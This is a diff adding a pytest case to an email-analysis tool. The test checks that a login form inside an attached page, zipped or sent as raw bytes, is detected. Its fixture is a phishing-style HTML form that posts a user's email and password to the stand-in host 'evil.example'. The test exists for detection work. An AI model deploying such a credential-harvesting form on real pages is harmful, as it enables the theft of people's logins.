@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import base64
+
 import pytest
+from tests.observe.test_archives import packed
 from tests.observing import observed
 
 from gyotaku.model.facts import Form
@@ -60,3 +63,19 @@ def test_form_without_fields() -> None:
 def test_asked(fields: list[tuple[str, str, str]], asks: tuple[str, ...]) -> None:
     """Names, types and labels tell what is asked; an address alone is no login."""
     assert asked(tuple(Field(name=name, kind=kind, label=label) for name, kind, label in fields)) == asks
+
+
+@pytest.mark.parametrize("zipped", [True, False])
+def test_form_of_a_page_inside_a_file(*, zipped: bool) -> None:
+    """A page in an archive, and one sent as mere bytes, show their form as an attached page does."""
+    page = (
+        b"<html><form action='https://evil.example/p' method=post><input name=user type=email><input type=password></form></html>"
+    )
+    content = packed({"a/login.html": page}) if zipped else page
+    head = (
+        "Content-Type: application/octet-stream; name=a.bin\nContent-Disposition: attachment\nContent-Transfer-Encoding: base64"
+    )
+    mail = f"From: a@a.example\nMIME-Version: 1.0\n{head}\n\n{base64.b64encode(content).decode()}\n"
+    found = observed(mail, "body", "files", "forms").first(Form)
+    assert found is not None
+    assert (found[0].action, found[0].place, found[0].asks) == ("https://evil.example/p", "attachment", ("login", "password"))
